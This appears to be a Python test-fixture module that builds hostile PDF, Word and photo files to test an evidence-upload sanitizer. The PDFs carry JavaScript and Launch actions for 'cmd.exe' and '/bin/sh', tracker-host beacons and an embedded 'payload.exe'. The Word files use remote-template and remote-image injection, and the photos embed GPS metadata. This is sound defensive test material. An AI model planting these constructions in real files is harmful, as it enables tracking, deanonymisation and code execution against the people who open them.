"""Hostile evidence files, built by the tests themselves (pikepdf, python-docx, zipfile, PIL):
no binary blob is stored. Each builder returns the bytes an attacker would upload."""

from __future__ import annotations

import io
import re
import zipfile
import zlib

import pikepdf
from docx import Document
from docx.shared import Inches
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL_IMAGE = f"{R_NS}/image"
REL_TEMPLATE = f"{R_NS}/attachedTemplate"
REL_HYPERLINK = f"{R_NS}/hyperlink"
GPS_LATITUDE = (35.0, 41.0, 22.0)


# --- photos -----------------------------------------------------------------------------


def exif_with_gps() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0110] = "Model X"  # Model
    exif[0x0131] = "CameraApp 2.1"  # Software
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", GPS_LATITUDE, "E", (51.0, 23.0, 18.0)
    return exif


def photo(fmt: str = "JPEG", size: tuple[int, int] = (160, 120)) -> bytes:
    """A small picture carrying GPS position, camera make, model and software."""
    img = Image.new("RGB", size, (30, 120, 200))
    for x in range(size[0] // 2):
        img.putpixel((x, 5), (250, 250, 0))
    out = io.BytesIO()
    exif = exif_with_gps()
    if fmt == "TIFF":  # Pillow writes a TIFF's GPS directory from `tiffinfo` only
        tags = {tag: exif[tag] for tag in (0x010F, 0x0110, 0x0131)}
        img.save(out, fmt, tiffinfo={**tags, 0x8825: dict(exif.get_ifd(0x8825))})
    else:
        extra = {"comment": b"Taken at the safe house"} if fmt == "JPEG" else {}
        img.save(out, fmt, exif=exif, **extra)
    return out.getvalue()


# --- PDF --------------------------------------------------------------------------------


def _pdf(pages: int = 1, text: str = "Hostile page") -> pikepdf.Pdf:
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1,
                                        BaseFont=Name.Helvetica))
    for i in range(pages):
        pdf.add_blank_page(page_size=(612, 792))
        page = pdf.pages[-1]
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        page.contents_add(pdf.make_stream(f"BT /F1 14 Tf 72 700 Td ({text} {i + 1}) Tj ET"
                                          .encode()))
    return pdf


def _saved(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.preserve)
    return out.getvalue()


def _js(code: str = "app.alert('x')") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def _link(rect: list[int], action: Dictionary) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array(rect), A=action)


def pdf_direct_annotations() -> bytes:
    """Annotations written straight into the page's /Annots array (direct objects, never in
    the object table): one running JavaScript, one launching a program, one web link whose
    /Next runs JavaScript, one rich-media annotation; the page carries a direct /AA."""
    pdf = _pdf()
    page = pdf.pages[0].obj
    web = _link([200, 0, 300, 50], Dictionary(S=Name.URI, URI=String("https://example.org/"),
                                              Next=_js("this.submitForm('x')")))
    page.Annots = Array([
        _link([0, 0, 100, 50], _js()),
        _link([100, 0, 200, 50], Dictionary(S=Name.Launch, F=String("cmd.exe"),
                                            Win=Dictionary(F=String("cmd.exe")))),
        web,
        Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 60, 50, 110]),
                   RichMediaContent=Dictionary(Assets=Dictionary())),
    ])
    page.AA = Dictionary(O=_js("app.launchURL('http://tracker.example/')"),
                         C=Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0])))
    return _saved(pdf)


def pdf_actions_everywhere() -> bytes:
    """/OpenAction, a widget with /AA in the form, an outline item that launches a program,
    a chain of /Next actions (an array), import/submit actions, an embedded-file name tree and
    a JavaScript one whose entries are direct, a file attachment, and a JavaScript action
    tucked inside a form XObject's nested resources."""
    pdf = _pdf(2)
    pdf.Root.OpenAction = _js("app.launchURL('http://tracker.example/open')")
    widget = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"),
        Rect=Array([50, 600, 250, 620]),
        AA=Dictionary(K=_js("event.value"), F=Dictionary(S=Name.ImportData, F=String("x.fdf"))),
        A=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://t.example")))))
    pdf.pages[0].obj.Annots = Array([widget])
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))
    item = pdf.make_indirect(Dictionary(
        Title=String("Chapter"), A=Dictionary(S=Name.Launch, F=String("/bin/sh"))))
    pdf.Root.Outlines = Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1)
    item.Parent = pdf.Root.Outlines
    first = pdf.pages[1].obj
    first.Annots = Array([_link([0, 0, 10, 10], Dictionary(
        S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]),
        Next=Array([Dictionary(S=Name.GoToE, D=Array([0])), _js("1")])))])
    embedded = pdf.make_stream(b"MZ evil bytes")
    embedded.Type = Name.EmbeddedFile
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), _js("app.alert(1)")])),
        EmbeddedFiles=Dictionary(Names=Array([String("payload.exe"), Dictionary(
            Type=Name.Filespec, F=String("payload.exe"), EF=Dictionary(F=embedded))])))
    form = pdf.make_stream(b"q Q")
    form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 10, 10])
    form.Resources = Dictionary(ExtGState=Dictionary(G0=Dictionary(
        Type=Name.ExtGState, Hidden=_js("app.alert('nested')"))))
    pdf.pages[1].obj.Resources.XObject = Dictionary(Fm0=form)
    return _saved(pdf)


def pdf_with_photos() -> bytes:
    """A page showing two camera photos as JPEG image XObjects: one plain DCTDecode, one
    wrapped in FlateDecode before DCTDecode; both carry GPS, camera and a comment."""
    pdf = _pdf()
    page = pdf.pages[0]
    jpeg = photo("JPEG")
    for n, flate in enumerate((False, True)):
        img = pikepdf.Stream(pdf, jpeg)
        if flate:
            img.write(zlib.compress(jpeg), filter=Array([Name.FlateDecode, Name.DCTDecode]))
        else:
            img.write(jpeg, filter=Name.DCTDecode)
        img.Type, img.Subtype = Name.XObject, Name.Image
        img.Width, img.Height, img.BitsPerComponent = 160, 120, 8
        img.ColorSpace = Name.DeviceRGB
        name = page.add_resource(img, Name.XObject, prefix="Im")
        page.contents_add(pdf.make_stream(f"q 160 0 0 120 {72 + 200 * n} 400 cm {name} Do Q"
                                          .encode()))
    return _saved(pdf)


# --- Word -------------------------------------------------------------------------------


def word(text: str = "I saw the arrest on the market square.", *,
         picture: bytes | None = None) -> bytes:
    doc = Document()
    doc.add_paragraph(text)
    if picture is not None:
        doc.add_picture(io.BytesIO(picture), width=Inches(1.5))
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def rewrite(data: bytes, parts: dict[str, bytes]) -> bytes:
    """The zip with some parts replaced or added."""
    changes = dict(parts)
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in src.infolist():
            zout.writestr(info, changes.pop(info.filename, src.read(info)))
        for name, body in changes.items():
            zout.writestr(name, body)
    return out.getvalue()


def _part(data: bytes, name: str) -> bytes:
    return zipfile.ZipFile(io.BytesIO(data)).read(name)


def _add_rels(data: bytes, rels_name: str, extra: str) -> bytes:
    body = _part(data, rels_name).replace(b"</Relationships>",
                                          extra.encode() + b"</Relationships>")
    return rewrite(data, {rels_name: body})


def docx_remote_picture(url: str, *, form: str = "double") -> bytes:
    """A picture whose bytes come from `url` (a:blip r:link), the relationship written with
    single quotes ("single"), as an open/close element pair ("pair"), or plainly."""
    data = word(picture=photo("PNG"))
    if form == "single":
        rel = (f"<Relationship Id='rTrap' Type='{REL_IMAGE}' Target='{url}' "
               f"TargetMode='External'/>")
    elif form == "pair":
        rel = (f'<Relationship Id="rTrap" Type="{REL_IMAGE}" Target="{url}" '
               f'TargetMode="External"></Relationship>')
    else:
        rel = f'<Relationship Id="rTrap" Type="{REL_IMAGE}" Target="{url}" TargetMode="External"/>'
    data = _add_rels(data, "word/_rels/document.xml.rels", rel)
    document = re.sub(rb'r:embed="rId\d+"', b'r:link="rTrap"', _part(data, "word/document.xml"))
    return rewrite(data, {"word/document.xml": document})


def docx_remote_template(url: str) -> bytes:
    """settings.xml attaches a template fetched from `url`."""
    data = word()
    rels = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
            f'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rT" Type="{REL_TEMPLATE}" Target="{url}" '
            f'TargetMode="External"/></Relationships>').encode()
    settings = _part(data, "word/settings.xml")
    settings = re.sub(rb"(<w:settings\b[^>]*>)",
                      rb'\1<w:attachedTemplate r:id="rT"></w:attachedTemplate>', settings)
    if b"xmlns:r=" not in settings.split(b">", 2)[1]:
        settings = settings.replace(b"<w:settings ", f'<w:settings xmlns:r="{R_NS}" '.encode(), 1)
    return rewrite(data, {"word/_rels/settings.xml.rels": rels, "word/settings.xml": settings})


def docx_web_link(url: str, text: str = "Read the report") -> bytes:
    data = word()
    data = _add_rels(data, "word/_rels/document.xml.rels",
                     f"<Relationship Id='rW' Type='{REL_HYPERLINK}' Target='{url}' "
                     f"TargetMode='External'/>")
    link = (f'<w:p><w:hyperlink r:id="rW"><w:r><w:t>{text}</w:t></w:r></w:hyperlink></w:p>'
            .encode())
    document = _part(data, "word/document.xml").replace(b"<w:sectPr", link + b"<w:sectPr", 1)
    return rewrite(data, {"word/document.xml": document})


def docx_with_photos() -> bytes:
    """A JPEG (inserted the ordinary way), a PNG and a TIFF in word/media, all with GPS."""
    data = word(picture=photo("JPEG"))
    return rewrite(data, {"word/media/extra1.png": photo("PNG"),
                          "word/media/extra2.tiff": photo("TIFF")})
